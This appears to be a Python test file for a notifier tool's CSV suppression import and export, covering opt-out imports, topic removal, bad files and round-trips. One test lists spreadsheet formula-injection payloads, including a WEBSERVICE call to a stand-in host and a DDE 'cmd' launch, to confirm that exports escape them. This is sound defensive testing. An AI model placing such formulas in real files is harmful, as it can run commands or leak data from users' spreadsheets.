"""`notifier suppress import`: opt-outs of another system come from a CSV file, and so do those of an export."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notifier.operating import suppression_file
from notifier.outbox import NewSuppression, Suppressions
from tests.notifier.cli.test_cli import Notifier, answer, notifier
from tests.outbox.conftest import engine, rows
from tests.outbox.rows import Rows

__all__ = ["engine", "notifier", "rows"]

GOOD = """channel,address,topic,reason
email,Ana@Example.com,news,
email,bo@example.com,*,
email,cy@example.com,,manual
"""


starts = st.sampled_from(["", *"=+-@'\"", "'+", "''", "+351 ", "+\t", "+351 912-345 (6)", "+1+"])
texts = st.builds(str.__add__, starts, st.text(st.characters(codec="utf-8", exclude_characters="\0"))).map(str.strip)
"""Of the database: without white space at the ends."""


def exported(address: str = "+351912345678", topic: str = "", note: str = "") -> str:
    row = {"channel": "sms", "address": address, "topic": topic, "reason": "manual", "note": note, "since": None}
    return "".join(suppression_file.written([row]))


def cells(content: str) -> list[str]:
    return list(csv.reader(io.StringIO(content, newline="")))[1]


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "left.csv"
    path.write_text(GOOD)
    return path


def test_opt_outs_of_a_file(rows: Rows, notifier: Notifier, file: Path) -> None:
    words = ("suppress", "import", str(file), "--kind", "unsubscribe", "--reason", "from the old system", "--json")
    assert answer(notifier(*words)) == {"lines": 3, "suppressed": 3}
    assert answer(notifier(*words)) == {"lines": 3, "suppressed": 0}
    found = {(each["address"], each["topic"], each["reason"]) for each in Suppressions(rows.engine, actor="t").list()}
    assert found == {
        ("ana@example.com", "news", "unsubscribe"),
        ("bo@example.com", "*", "unsubscribe"),
        ("cy@example.com", "", "manual"),
    }


def test_removing_every_topic_leaves_other_suppressions(rows: Rows, notifier: Notifier, file: Path) -> None:
    """`*` is a topic of its own: before, it removed every entry, a complaint too."""
    suppressions = Suppressions(rows.engine, actor="t")
    suppressions.add("email", "bo@example.com", reason="complaint")
    suppressions.add("email", "bo@example.com", reason="unsubscribe", topic="*")
    assert answer(notifier("suppress", "remove", "email", "bo@example.com", "--topic", "*", "--json")) == {
        "removed": 1,
        "opted_out": False,
    }
    assert [each["reason"] for each in suppressions.list()] == ["complaint"]


@pytest.mark.parametrize("kind", ["unsubscribe", "complaint"])
def test_a_wrong_file_changes_nothing(rows: Rows, notifier: Notifier, file: Path, kind: str) -> None:
    file.write_text(GOOD + "email,nobody,news,\n")
    ended = notifier("suppress", "import", str(file), "--kind", kind)
    assert ended.returncode == 2
    assert Suppressions(rows.engine, actor="t").list() == []


def test_no_such_file(notifier: Notifier, tmp_path: Path) -> None:
    assert notifier("suppress", "import", str(tmp_path / "none.csv")).returncode == 2


@pytest.mark.parametrize(
    "text",
    [
        '+WEBSERVICE("https://x.example/?"&B2)', "+1+cmd|' /C calc'!A0", "+", "+A1", "+351 912\n=1", "+351,912",
        "+1*2", "=1+1", "-1+1", "@SUM(1)", "'quoted",
    ],
)  # fmt: skip
def test_a_spreadsheet_runs_no_text_of_an_export(text: str) -> None:
    assert cells(exported(topic=text, note=text))[2:5] == [f"'{text}", "manual", f"'{text}"]


@pytest.mark.parametrize("text", ["+351912345678", "+351 (91) 234-56.78/9", "she called", "1+1", "", "(+351) 912"])
def test_a_phone_number_and_plain_text_are_exported_as_they_are(text: str) -> None:
    assert cells(exported(note=text))[4] == text


@given(texts, texts)
def test_an_export_that_is_imported_has_the_same_texts(topic: str, note: str) -> None:
    content = exported(topic=topic, note=note)
    assert not any(cell.startswith(("=", "-", "@")) for cell in cells(content))
    expected = NewSuppression("sms", "+351912345678", topic, "manual", note or None)
    assert suppression_file.read(content.encode()) == [expected]
